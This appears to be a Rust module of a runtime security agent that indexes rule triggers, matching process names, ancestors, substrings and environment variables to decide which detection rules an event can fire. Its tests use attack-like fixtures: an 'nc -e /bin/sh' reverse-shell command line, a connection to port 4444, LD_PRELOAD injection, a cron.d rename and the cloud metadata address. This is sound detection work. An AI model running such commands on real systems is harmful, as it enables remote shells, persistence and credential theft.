//! Rule triggers, tested natively: which rules an event can trigger, before
//! any Rego runs.
//!
//! A rule's `meta.triggers` (see policies/lib/triggers.rego, the reference
//! this mirrors) is a necessary condition for its `hits`. main.rego only
//! considers the rules an event triggers, so evaluating just those rules'
//! modules gives the bundle's own decision, in Palisade as in OPA. At load,
//! [`super::load::compile`] checks on the sample events that
//! this test and the Rego one agree.

use std::borrow::Cow;

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use serde_json::Value;

use super::PolicyError;
use crate::{event::Event, model::bytes::Bytes};

/// The keys an alternative may use, as policies/lib/triggers.rego names them.
const KEYS: &[&str] = &[
    "names",
    "ancestors",
    "paths",
    "substrings",
    "lower_substrings",
    "env",
    "container",
    "drift",
    "euid_raised",
    "file_paths",
];

/// One alternative as written: every condition present must hold.
#[derive(Debug, Clone, Default, PartialEq)]
struct Alternative {
    names: Option<Vec<String>>,
    ancestors: Option<Vec<String>>,
    paths: Option<Vec<String>>,
    substrings: Option<Vec<String>>,
    lower_substrings: Option<Vec<String>>,
    env: Option<Vec<String>>,
    container: bool,
    drift: bool,
    euid_raised: bool,
    file_paths: Option<Vec<String>>,
}

/// A rule's triggers, as read from its `meta`: `None` alternatives means
/// the rule has none and is considered for every event of its kinds.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Triggers {
    alternatives: Option<Vec<Alternative>>,
}

impl Triggers {
    /// Reads `meta.triggers` (absent or null: no triggers). `at` is the
    /// rule's `file:line`, for errors.
    pub fn parse(meta: &Value, at: &str) -> Result<Self, PolicyError> {
        let list = match meta.get("triggers") {
            None | Some(Value::Null) => return Ok(Self { alternatives: None }),
            Some(Value::Array(list)) if !list.is_empty() => list,
            Some(other) => {
                return Err(PolicyError::invalid(
                    at,
                    format!(
                        "`meta.triggers` must be a non-empty array of objects (or absent), not {}",
                        truncated(other)
                    ),
                ));
            }
        };
        let mut alternatives = Vec::with_capacity(list.len());
        for (i, alt) in list.iter().enumerate() {
            let bad =
                |why: String| PolicyError::invalid(at, format!("`meta.triggers[{i}]`: {why}"));
            let Some(alt) = alt.as_object().filter(|a| !a.is_empty()) else {
                return Err(bad(format!("must be a non-empty object, not {}", truncated(alt))));
            };
            let mut parsed = Alternative::default();
            for (key, want) in alt {
                let list = || strings(want).map_err(|why| bad(format!("`{key}` {why}")));
                match key.as_str() {
                    "names" => parsed.names = Some(list()?),
                    "ancestors" => parsed.ancestors = Some(list()?),
                    "paths" => parsed.paths = Some(list()?),
                    "substrings" => parsed.substrings = Some(list()?),
                    "lower_substrings" => parsed.lower_substrings = Some(list()?),
                    "env" => parsed.env = Some(list()?),
                    "file_paths" => parsed.file_paths = Some(list()?),
                    "container" | "drift" | "euid_raised" => {
                        if want != &Value::Bool(true) {
                            return Err(bad(format!("`{key}` can only be true, not {want}")));
                        }
                        match key.as_str() {
                            "container" => parsed.container = true,
                            "drift" => parsed.drift = true,
                            _ => parsed.euid_raised = true,
                        }
                    }
                    _ => return Err(bad(format!("unknown key `{key}` (one of {KEYS:?})"))),
                }
            }
            alternatives.push(parsed);
        }
        Ok(Self { alternatives: Some(alternatives) })
    }

    /// Whether the rule has no triggers (is considered for every event).
    pub fn is_always(&self) -> bool {
        self.alternatives.is_none()
    }
}

/// A list of strings: an array, or an object's keys (a config set such as
/// `config.shells`, as lib/triggers.rego reads it).
fn strings(value: &Value) -> Result<Vec<String>, String> {
    if let Some(set) = value.as_object() {
        return Ok(set.keys().cloned().collect());
    }
    let list = value.as_array().ok_or_else(|| {
        format!("must be an array of strings or an object, not {}", truncated(value))
    })?;
    list.iter()
        .map(|v| {
            v.as_str()
                .map(str::to_string)
                .ok_or_else(|| format!("holds {}, not a string", truncated(v)))
        })
        .collect()
}

fn truncated(value: &Value) -> String {
    let text = value.to_string();
    match text.char_indices().nth(80) {
        Some((cut, _)) => format!("{}…", &text[..cut]),
        None => text,
    }
}

/// A set of names as bits over the names some trigger lists.
type Bits = Vec<u64>;

fn overlaps(a: &Bits, b: &Bits) -> bool {
    a.iter().zip(b).any(|(x, y)| x & y != 0)
}

/// One alternative, ready to test: its name and substring lists as bits
/// (the rest is tested as written).
struct Compiled {
    names: Option<Bits>,
    ancestors: Option<Bits>,
    substrings: Option<Bits>,
    lower_substrings: Option<Bits>,
    written: Alternative,
}

/// Every rule's triggers, tested together: each name any trigger lists is
/// numbered once, so an event's names are hashed once, not once per rule,
/// and each substring list is one automaton, so an event's text is read
/// once, not once per listed substring.
pub struct TriggerIndex {
    numbers: foldhash::HashMap<String, usize>,
    words: usize,
    substrings: Needles,
    lower_substrings: Needles,
    /// Per rule, in the policy's rule order; `None`: no triggers.
    rules: Vec<Option<Vec<Compiled>>>,
    /// Per rule whose every alternative lists names: those names together.
    /// An event with none of them is turned away by one test, without
    /// looking at each alternative (most rules, on most events).
    name_gates: Vec<Option<Bits>>,
}

/// The most memory a substring list's DFA may take (the baseline's 122
/// substrings take 418 KB).
const DFA_MEMORY_MAX: usize = 2 << 20;

/// Every substring one key of the triggers lists, numbered once, found
/// together in one pass over a text (Aho-Corasick, every occurrence).
struct Needles {
    numbers: foldhash::HashMap<String, usize>,
    /// Substring `i` is numbered `i`.
    patterns: Vec<String>,
    /// Pattern `i` is `patterns[i]`; None when there are none, or when no
    /// automaton could be built of them (each is then searched for alone).
    automaton: Option<AhoCorasick>,
    words: usize,
}

impl Needles {
    fn new<'a>(lists: impl Iterator<Item = &'a Vec<String>>) -> Self {
        let mut numbers = foldhash::HashMap::default();
        let mut patterns = Vec::new();
        for needle in lists.flatten() {
            numbers.entry(needle.clone()).or_insert_with(|| {
                patterns.push(needle.clone());
                patterns.len() - 1
            });
        }
        // Standard semantics: every pattern that occurs is reported. A DFA
        // (one table lookup per byte: half the instructions of the default's
        // overlapping search on a node's events) while it stays small; a
        // bundle listing thousands of substrings gets the default's smaller
        // automaton instead.
        let automaton = if patterns.is_empty() {
            None
        } else {
            (AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).build(&patterns).ok())
                .filter(|dfa| dfa.memory_usage() <= DFA_MEMORY_MAX)
                .or_else(|| AhoCorasick::new(&patterns).ok())
        };
        Self { words: numbers.len().div_ceil(64).max(1), numbers, patterns, automaton }
    }

    fn bits(&self, list: &Option<Vec<String>>) -> Option<Bits> {
        list.as_ref().map(|list| {
            let mut bits = vec![0u64; self.words];
            for needle in list {
                set(&mut bits, self.numbers[needle]);
            }
            bits
        })
    }

    /// The substrings `text` contains.
    fn found(&self, text: &str) -> Bits {
        let mut bits = vec![0u64; self.words];
        match &self.automaton {
            Some(automaton) => {
                for m in automaton.find_overlapping_iter(text) {
                    set(&mut bits, m.pattern().as_usize());
                }
            }
            None => {
                for (i, needle) in self.patterns.iter().enumerate() {
                    if text.contains(needle.as_str()) {
                        set(&mut bits, i);
                    }
                }
            }
        }
        bits
    }
}

/// The names of all `alternatives` together, when every one lists names.
fn name_gate(alternatives: &[Compiled]) -> Option<Bits> {
    let mut gate: Option<Bits> = None;
    for alt in alternatives {
        let names = alt.names.as_ref()?;
        let gate = gate.get_or_insert_with(|| vec![0; names.len()]);
        for (g, n) in gate.iter_mut().zip(names) {
            *g |= n;
        }
    }
    gate
}

fn set(bits: &mut Bits, i: usize) {
    bits[i / 64] |= 1 << (i % 64);
}

impl TriggerIndex {
    pub fn new<'a>(rules: impl IntoIterator<Item = &'a Triggers>) -> Self {
        let rules: Vec<&Triggers> = rules.into_iter().collect();
        let mut numbers = foldhash::HashMap::default();
        let all_names = rules.iter().flat_map(|t| t.alternatives.iter().flatten());
        for alt in all_names {
            for name in alt.names.iter().chain(&alt.ancestors).flatten() {
                let next = numbers.len();
                numbers.entry(name.clone()).or_insert(next);
            }
        }
        let words = numbers.len().div_ceil(64).max(1);
        let bits = |names: &Option<Vec<String>>| {
            names.as_ref().map(|names| {
                let mut bits = vec![0u64; words];
                for n in names {
                    set(&mut bits, numbers[n]);
                }
                bits
            })
        };
        let alternatives = || rules.iter().flat_map(|t| t.alternatives.iter().flatten());
        let substrings = Needles::new(alternatives().flat_map(|a| &a.substrings));
        let lower_substrings = Needles::new(alternatives().flat_map(|a| &a.lower_substrings));
        let compiled: Vec<Option<Vec<Compiled>>> = rules
            .iter()
            .map(|t| {
                t.alternatives.as_ref().map(|alts| {
                    alts.iter()
                        .map(|a| Compiled {
                            names: bits(&a.names),
                            ancestors: bits(&a.ancestors),
                            substrings: substrings.bits(&a.substrings),
                            lower_substrings: lower_substrings.bits(&a.lower_substrings),
                            written: a.clone(),
                        })
                        .collect()
                })
            })
            .collect();
        let name_gates = compiled.iter().map(|alts| name_gate(alts.as_deref()?)).collect();
        Self { numbers, words, substrings, lower_substrings, rules: compiled, name_gates }
    }

    /// What the triggers look at in `event`, computed once for all rules
    /// (the text for substring triggers only when one asks for it).
    pub fn facts<'a>(&self, event: &'a (impl FactSource + ?Sized)) -> EventFacts<'a> {
        let binary = event.binary();
        let filename = event.filename();
        let args = event.args();
        let mut names = vec![0u64; self.words];
        for path in [&binary, &filename].into_iter().chain(args.iter()) {
            self.mark(&mut names, basename(path));
        }
        let mut ancestors = vec![0u64; self.words];
        for binary in event.ancestor_binaries() {
            self.mark(&mut ancestors, basename(&binary));
        }
        let joined = (!filename.is_empty() && !filename.starts_with('/'))
            .then(|| Cow::Owned(format!("{}/{filename}", event.cwd())));
        let mut exec_paths = vec![binary, filename];
        exec_paths.extend(joined);
        EventFacts {
            names,
            env: event.env_names(),
            ancestors,
            exec_paths,
            args,
            daddr: event.daddr(),
            file_paths: event.file_paths(),
            text: std::cell::OnceCell::new(),
            substrings: std::cell::OnceCell::new(),
            lower_substrings: std::cell::OnceCell::new(),
            container: event.in_container(),
            drift: event.drifted(),
            euid_raised: event.euid_raised(),
        }
    }

    fn mark(&self, bits: &mut Bits, name: &str) {
        if let Some(&i) = self.numbers.get(name) {
            set(bits, i);
        }
    }

    /// Whether rule number `rule` is considered for the event.
    pub fn fires(&self, rule: usize, facts: &EventFacts) -> bool {
        let Some(Some(alternatives)) = self.rules.get(rule) else {
            return true;
        };
        if let Some(Some(gate)) = self.name_gates.get(rule)
            && !overlaps(gate, &facts.names)
        {
            return false;
        }
        alternatives.iter().any(|compiled| {
            let alt = &compiled.written;
            (!alt.container || facts.container)
                && (!alt.drift || facts.drift)
                && (!alt.euid_raised || facts.euid_raised)
                && compiled.names.as_ref().is_none_or(|want| overlaps(want, &facts.names))
                && (compiled.ancestors.as_ref()).is_none_or(|want| overlaps(want, &facts.ancestors))
                && alt.paths.as_ref().is_none_or(|want| {
                    want.iter()
                        .any(|p| facts.exec_paths.iter().any(|path| path.starts_with(p.as_str())))
                })
                && alt.file_paths.as_ref().is_none_or(|want| {
                    want.iter()
                        .any(|p| facts.file_paths.iter().any(|path| path.starts_with(p.as_str())))
                })
                && compiled.substrings.as_ref().is_none_or(|want| {
                    let found =
                        facts.substrings.get_or_init(|| self.substrings.found(facts.text()));
                    overlaps(want, found)
                })
                && compiled.lower_substrings.as_ref().is_none_or(|want| {
                    let found = facts
                        .lower_substrings
                        .get_or_init(|| self.lower_substrings.found(&facts.text().to_lowercase()));
                    overlaps(want, found)
                })
                && alt.env.as_ref().is_none_or(|want| want.iter().any(|n| facts.env.contains(n)))
        })
    }
}

/// What the triggers look at, computed once per event exactly as
/// policies/lib/triggers.rego computes it; borrowed from the event where
/// it can be.
#[derive(Debug, PartialEq)]
pub struct EventFacts<'a> {
    /// Trigger names that are the last `/` component of the binary, the
    /// filename or an argument.
    names: Bits,
    /// Trigger names that are the last component of an ancestor's binary.
    ancestors: Bits,
    /// The names of the captured environment variables.
    env: Vec<String>,
    /// binary, filename, and cwd + "/" + filename for a relative filename.
    exec_paths: Vec<Cow<'a, str>>,
    args: Vec<Cow<'a, str>>,
    daddr: Cow<'a, str>,
    /// A file event's path and new path.
    file_paths: Vec<Cow<'a, str>>,
    /// The exec paths, the command line and daddr, one per line: made
    /// when a substring trigger asks for it.
    text: std::cell::OnceCell<String>,
    /// The listed substrings `text` contains, found when a trigger asks.
    substrings: std::cell::OnceCell<Bits>,
    /// The listed lower-case substrings `text` lower-cased contains.
    lower_substrings: std::cell::OnceCell<Bits>,
    container: bool,
    drift: bool,
    euid_raised: bool,
}

impl EventFacts<'_> {
    /// The exec paths, the command line and daddr, one per line.
    fn text(&self) -> &str {
        self.text.get_or_init(|| {
            let mut text = self.exec_paths.join("\n");
            for line in [&self.args.join(" "), &*self.daddr] {
                text.push('\n');
                text.push_str(line);
            }
            text
        })
    }
}

/// What the trigger facts are read from: the agent's typed event, or an
/// event as JSON (`policy eval`, `replay`, the tests). Both read alike: a
/// byte string as its text (lossy where it is not UTF-8, as the JSON's
/// `text` is).
pub trait FactSource {
    fn binary(&self) -> Cow<'_, str>;
    fn filename(&self) -> Cow<'_, str>;
    fn args(&self) -> Vec<Cow<'_, str>>;
    fn cwd(&self) -> Cow<'_, str>;
    fn ancestor_binaries(&self) -> Vec<Cow<'_, str>>;
    /// A file event's path and new path.
    fn file_paths(&self) -> Vec<Cow<'_, str>>;
    fn daddr(&self) -> Cow<'_, str>;
    fn env_names(&self) -> Vec<String>;
    fn in_container(&self) -> bool;
    fn drifted(&self) -> bool;
    /// Effective uid 0 for a process whose real uid is not.
    fn euid_raised(&self) -> bool;
}

impl FactSource for Value {
    fn binary(&self) -> Cow<'_, str> {
        Cow::Borrowed(text(&self["process"]["binary"]).unwrap_or(""))
    }
    fn filename(&self) -> Cow<'_, str> {
        Cow::Borrowed(text(&self["process"]["filename"]).unwrap_or(""))
    }
    fn args(&self) -> Vec<Cow<'_, str>> {
        match &self["process"]["args"] {
            Value::Array(args) => args.iter().filter_map(text).map(Cow::Borrowed).collect(),
            _ => Vec::new(),
        }
    }
    fn cwd(&self) -> Cow<'_, str> {
        Cow::Borrowed(text(&self["process"]["cwd"]).unwrap_or(""))
    }
    fn ancestor_binaries(&self) -> Vec<Cow<'_, str>> {
        match &self["process"]["ancestors"] {
            Value::Array(list) => {
                list.iter().filter_map(|a| text(&a["binary"])).map(Cow::Borrowed).collect()
            }
            _ => Vec::new(),
        }
    }
    fn file_paths(&self) -> Vec<Cow<'_, str>> {
        let file = &self["file"];
        [&file["path"], &file["new_path"]].into_iter().filter_map(text).map(Cow::Borrowed).collect()
    }
    fn daddr(&self) -> Cow<'_, str> {
        Cow::Borrowed(self["network"]["daddr"].as_str().unwrap_or(""))
    }
    fn env_names(&self) -> Vec<String> {
        match &self["process"]["env"] {
            Value::Object(env) => env.keys().cloned().collect(),
            _ => Vec::new(),
        }
    }
    fn in_container(&self) -> bool {
        self["container"]["id"].as_str().is_some_and(|id| !id.is_empty())
    }
    fn drifted(&self) -> bool {
        self["process"]["exe"]["drift"].is_object()
    }
    fn euid_raised(&self) -> bool {
        let process = &self["process"];
        process["euid"].as_f64() == Some(0.0)
            && process["uid"].as_f64().is_some_and(|uid| uid != 0.0)
    }
}

impl FactSource for Event {
    fn binary(&self) -> Cow<'_, str> {
        self.process.binary.text()
    }
    fn filename(&self) -> Cow<'_, str> {
        self.process.filename.as_ref().map_or(Cow::Borrowed(""), Bytes::text)
    }
    fn args(&self) -> Vec<Cow<'_, str>> {
        self.process.args.iter().map(Bytes::text).collect()
    }
    fn cwd(&self) -> Cow<'_, str> {
        self.process.cwd.text()
    }
    fn ancestor_binaries(&self) -> Vec<Cow<'_, str>> {
        self.process.ancestors.iter().map(|a| a.binary.text()).collect()
    }
    fn file_paths(&self) -> Vec<Cow<'_, str>> {
        let Some(file) = &self.file else { return Vec::new() };
        std::iter::once(&file.path).chain(&file.new_path).map(Bytes::text).collect()
    }
    fn daddr(&self) -> Cow<'_, str> {
        self.network.as_ref().map_or(Cow::Borrowed(""), |n| Cow::Owned(n.daddr.to_string()))
    }
    fn env_names(&self) -> Vec<String> {
        self.process.env.keys().cloned().collect()
    }
    fn in_container(&self) -> bool {
        self.container.as_ref().is_some_and(|c| !c.id.is_empty())
    }
    fn drifted(&self) -> bool {
        self.process.exe.as_ref().is_some_and(|e| e.drift.is_some())
    }
    fn euid_raised(&self) -> bool {
        self.process.euid == Some(0) && self.process.uid != 0
    }
}

/// A string field as lib.text reads it: a string, or the `text` of a
/// non-UTF-8 value (`{"base64": ..., "text": ...}`).
fn text(value: &Value) -> Option<&str> {
    match value {
        Value::String(s) => Some(s),
        Value::Object(o) => o.get("text").and_then(Value::as_str),
        _ => None,
    }
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The rules of one event kind an event triggers: indexes into
/// `Policy::rules`, ascending.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Triggered {
    pub(super) kind: String,
    pub(super) rules: Vec<usize>,
}

impl Triggered {
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::model::bytes::SharedBytes;

    /// Whether one rule with triggers `value` fires on `event`.
    fn fires(value: Value, event: &Value) -> bool {
        let triggers = Triggers::parse(&json!({ "triggers": value }), "r.rego:3").unwrap();
        let index = TriggerIndex::new([&triggers]);
        index.fires(0, &index.facts(event))
    }

    fn exec(binary: &str, args: &[&str]) -> Value {
        json!({"kind": "process_exec", "process": {"binary": binary, "filename": binary, "args": args,
               "cwd": "/tmp", "uid": 1000, "euid": 0,
               "ancestors": [{"pid": 1, "binary": "/usr/sbin/nginx"},
                             {"pid": 0, "binary": {"base64": "", "text": "/x/\u{fffd}sshd"}}]}})
    }

    /// The agent reads the facts from its typed event, `policy eval` and
    /// the tests from JSON: both must read the same facts.
    #[test]
    fn a_typed_event_gives_the_facts_its_json_gives() {
        use crate::{
            event::{Executable, FileActivity, Network},
            process::table::Ancestor,
        };
        let triggers = Triggers::parse(
            &json!({"triggers": [{"names": ["nc", "sh", "true"], "ancestors": ["sshd", "nginx"]}]}),
            "r.rego:3",
        )
        .unwrap();
        let index = TriggerIndex::new([&triggers]);
        let bytes = |s: &[u8]| Bytes(s.to_vec());

        let mut exec = crate::test_support::event("process_exec");
        exec.process.binary = bytes(b"/usr/bin/n\xffc");
        exec.process.filename = Some(bytes(b"./sh"));
        exec.process.args = vec![bytes(b"sh"), bytes(b"-c"), bytes(b"true \xfe")];
        exec.process.cwd = bytes(b"/tmp");
        exec.process.uid = 1000;
        exec.process.euid = Some(0);
        exec.process.env = [("LD_PRELOAD".to_string(), bytes(b"/x.so"))].into();
        exec.process.ancestors = vec![
            Ancestor { pid: 1, binary: SharedBytes(b"/usr/sbin/nginx"[..].into()) },
            Ancestor { pid: 2, binary: SharedBytes(b"/x/\xffsshd"[..].into()) },
        ];
        exec.process.exe = Some(Executable {
            inode: 1,
            dev: 2,
            drift: Some(crate::drift::Drift {
                reason: "upper_layer",
                reasons: vec!["upper_layer"],
                file: "executable",
            }),
        });
        exec.container = Some(crate::container::Container {
            id: "c".repeat(64),
            runtime: "containerd",
            name: None,
            image: None,
            cgroup: "/x".into(),
            started_ns: None,
        });

        let mut rename = crate::test_support::event("file_rename");
        rename.file = Some(FileActivity {
            path: bytes(b"/tmp/x"),
            path_truncated: false,
            new_path: Some(bytes(b"/etc/cron.d/\xff")),
            new_path_truncated: false,
            access: None,
            flags: Vec::new(),
            mode: None,
            syscall: "renameat2",
            result: "ok",
            errno: None,
        });
        let mut connect = crate::test_support::event("network_connect");
        connect.network = Some(Network {
            family: "ipv4",
            protocol: "tcp".into(),
            direction: "outbound",
            daddr: [10, 0, 0, 9].into(),
            dport: 4444,
            saddr: None,
            sport: None,
            hook: "connect",
            result: None,
            repeats: None,
        });

        for event in [exec, rename, connect, crate::test_support::event("process_exit")] {
            let json = serde_json::to_value(&event).unwrap();
            assert_eq!(index.facts(&event), index.facts(&json), "{json}");
        }
    }

    #[test]
    fn file_paths_match_a_file_events_path_or_new_name() {
        let rename = json!({"kind": "file_rename", "process": {"pid": 1},
                            "file": {"path": "/tmp/x", "new_path": "/etc/cron.d/x"}});
        assert!(fires(json!([{"file_paths": ["/etc/cron"]}]), &rename), "the new name");
        assert!(fires(json!([{"file_paths": ["/tmp/"]}]), &rename), "the old name");
        assert!(!fires(json!([{"file_paths": ["/etc/shadow"]}]), &rename));
        let exec = exec("/etc/cron.d/x", &["x"]);
        assert!(!fires(json!([{"file_paths": ["/etc/cron"]}]), &exec), "not an exec's paths");
    }

    #[test]
    fn each_key_reads_what_the_rego_reads() {
        let nc = exec("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1"]);
        let index = TriggerIndex::new([]);
        let facts = index.facts(&nc);
        assert_eq!(facts.exec_paths, ["/bin/busybox", "/bin/busybox"]);
        assert_eq!(facts.text(), "/bin/busybox\n/bin/busybox\nnc -e /bin/sh 10.0.0.1\n");
        assert!(facts.euid_raised && !facts.container && !facts.drift);

        assert!(fires(json!([{"names": ["nc"]}]), &nc));
        assert!(fires(json!([{"names": {"nc": false}}]), &nc), "a config set's keys");
        assert!(fires(json!([{"names": ["sh"]}]), &nc), "an argument's last component");
        assert!(!fires(json!([{"names": ["ncat", "bin"]}]), &nc));
        assert!(fires(json!([{"ancestors": ["nginx"]}]), &nc));
        assert!(
            fires(json!([{"ancestors": ["\u{fffd}sshd"]}]), &nc),
            "a non-UTF-8 path by its text"
        );
        assert!(!fires(json!([{"ancestors": ["nc"]}]), &nc));
        assert!(!fires(json!([{"paths": ["/tmp/"]}]), &nc), "an absolute filename");
        let mut relative = nc.clone();
        relative["process"]["filename"] = json!("./busybox");
        assert!(fires(json!([{"paths": ["/tmp/./"]}]), &relative), "cwd + / + filename");
        assert!(!fires(json!([{"paths": ["/sh"]}]), &nc));
        assert!(fires(json!([{"substrings": ["-e /bin"]}]), &nc));
        assert!(!fires(json!([{"substrings": ["-E /BIN"]}]), &nc));
        let shouting = exec("/usr/bin/python3", &["python3", "-c", "IMPORT BASE64"]);
        assert!(fires(json!([{"lower_substrings": ["base64"]}]), &shouting));
        assert!(!fires(json!([{"lower_substrings": ["b32"]}]), &shouting));
        assert!(fires(json!([{"euid_raised": true}]), &nc));
        let mut preloaded = nc.clone();
        preloaded["process"]["env"] = json!({"LD_PRELOAD": "/x.so"});
        assert!(fires(json!([{"env": ["LD_AUDIT", "LD_PRELOAD"]}]), &preloaded));
        assert!(fires(json!([{"env": {"LD_PRELOAD": true}}]), &preloaded));
        assert!(!fires(json!([{"env": ["LD_AUDIT"]}]), &preloaded));
        assert!(!fires(json!([{"env": ["LD_PRELOAD"]}]), &nc));
        // Keys of one alternative all hold; any alternative will do.
        assert!(!fires(json!([{"names": ["nc"], "container": true}]), &nc));
        assert!(fires(json!([{"container": true}, {"names": ["busybox"]}]), &nc));
        // No triggers: always considered.
        let none = Triggers::parse(&json!({}), "r.rego:3").unwrap();
        let index = TriggerIndex::new([&none]);
        assert!(none.is_always() && index.fires(0, &index.facts(&nc)));

        let mut drifted = exec("/app/x", &["x"]);
        drifted["container"] = json!({"id": "abc"});
        drifted["process"]["exe"] = json!({"drift": {"reason": "upper_layer"}});
        assert!(fires(json!([{"container": true, "drift": true}]), &drifted));
        assert!(!fires(json!([{"euid_raised": true}]), &json!({"process": {"euid": 0, "uid": 0}})));
        let connect =
            json!({"kind": "network_connect", "network": {"daddr": "::ffff:169.254.169.254"}});
        assert!(fires(json!([{"substrings": ["169.254.169.254"]}]), &connect));
    }

    #[test]
    fn many_names_spill_over_one_word() {
        let names: Vec<String> = (0..200).map(|i| format!("tool{i}")).collect();
        let event = exec("/usr/bin/tool137", &["tool137"]);
        assert!(fires(json!([{"names": names}]), &event));
        assert!(!fires(json!([{"names": names[..137]}]), &event));
    }

    /// Rules' substrings meet one event's text: each rule fires exactly
    /// when one of its own occurs, through overlaps, prefixes of one
    /// another, the empty string and a hundred of them.
    #[test]
    fn each_rule_fires_on_its_own_substrings() {
        let lists = [
            json!(["nc -e", "nc -"]),
            json!(["-e /bin/s", "/bin/sh 10"]),
            json!(["sh 10.0.0.2"]),
            json!([""]),
            json!((0..100).map(|i| format!("x{i}y")).collect::<Vec<_>>()),
            json!(["X99Y", "x99y"]),
        ];
        let rules: Vec<Triggers> = (lists.iter())
            .map(|l| Triggers::parse(&json!({"triggers": [{"substrings": l}]}), "r:1").unwrap())
            .collect();
        let lower =
            Triggers::parse(&json!({"triggers": [{"lower_substrings": ["x99y"]}]}), "r:1").unwrap();
        let index = TriggerIndex::new(rules.iter().chain([&lower]));
        let fired = |event: &Value| -> Vec<bool> {
            let facts = index.facts(event);
            (0..=rules.len()).map(|i| index.fires(i, &facts)).collect()
        };
        let nc = exec("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1"]);
        assert_eq!(fired(&nc), [true, true, false, true, false, false, false]);
        let many = exec("/bin/echo", &["echo", "aX99Yb"]);
        assert_eq!(fired(&many), [false, false, false, true, false, true, true]);
        let lower_only = exec("/bin/echo", &["echo", "ax99yb"]);
        assert_eq!(fired(&lower_only), [false, false, false, true, true, true, true]);
    }

    /// Without an automaton (too many substrings for one), each substring
    /// is searched for alone and the same ones are found.
    #[test]
    fn substrings_are_found_alike_without_the_automaton() {
        let lists = [
            vec!["nc -e".to_string(), "nc -".into(), "".into()],
            vec!["-e /bin/s".into(), "/bin/sh 10".into(), "x".into()],
        ];
        let with = Needles::new(lists.iter());
        let mut without = Needles::new(lists.iter());
        without.automaton = None;
        assert!(with.automaton.is_some());
        for text in ["nc -e /bin/sh 10.0.0.1", "", "nc", "/bin/sh 10 x"] {
            assert_eq!(with.found(text), without.found(text), "{text:?}");
        }
        assert_eq!(with.found("nc -e /bin/sh 10"), vec![0b11111]);
    }

    /// Thousands of substrings get the smaller automaton, not a DFA of
    /// many megabytes, and find the same.
    #[test]
    fn many_substrings_get_a_bounded_automaton() {
        let many: [Vec<String>; 1] =
            [(0..6000).map(|i| format!("marker-{i:05}-{}", i * 7919)).collect()];
        let needles = Needles::new(many.iter());
        let automaton = needles.automaton.as_ref().expect("an automaton");
        assert_ne!(automaton.kind(), AhoCorasickKind::DFA);
        assert!(automaton.memory_usage() <= DFA_MEMORY_MAX, "{}", automaton.memory_usage());
        let found = needles.found("run marker-00042-332598 and marker-05999-47506081");
        let listed: Vec<usize> =
            (0..6000).filter(|&i| found[i / 64] & (1 << (i % 64)) != 0).collect();
        assert_eq!(listed, [42, 5999]);
    }

    #[test]
    fn malformed_triggers_name_the_rule_and_the_alternative() {
        let err = |value: Value| {
            Triggers::parse(&json!({ "triggers": value }), "rules/x.rego:9")
                .unwrap_err()
                .to_string()
        };
        assert_eq!(
            err(json!([{"names": ["nc"]}, {"binary": ["nc"]}])),
            "rules/x.rego:9: `meta.triggers[1]`: unknown key `binary` (one of [\"names\", \"ancestors\", \"paths\", \"substrings\", \"lower_substrings\", \"env\", \"container\", \"drift\", \"euid_raised\", \"file_paths\"])"
        );
        assert_eq!(
            err(json!([{"container": false}])),
            "rules/x.rego:9: `meta.triggers[0]`: `container` can only be true, not false"
        );
        assert_eq!(
            err(json!([{"names": "nc"}])),
            "rules/x.rego:9: `meta.triggers[0]`: `names` must be an array of strings or an object, not \"nc\""
        );
        assert_eq!(
            err(json!([{"paths": ["/tmp/", 1]}])),
            "rules/x.rego:9: `meta.triggers[0]`: `paths` holds 1, not a string"
        );
        assert!(err(json!({})).contains("must be a non-empty array"));
        assert!(err(json!([{}])).contains("must be a non-empty object"));
    }
}
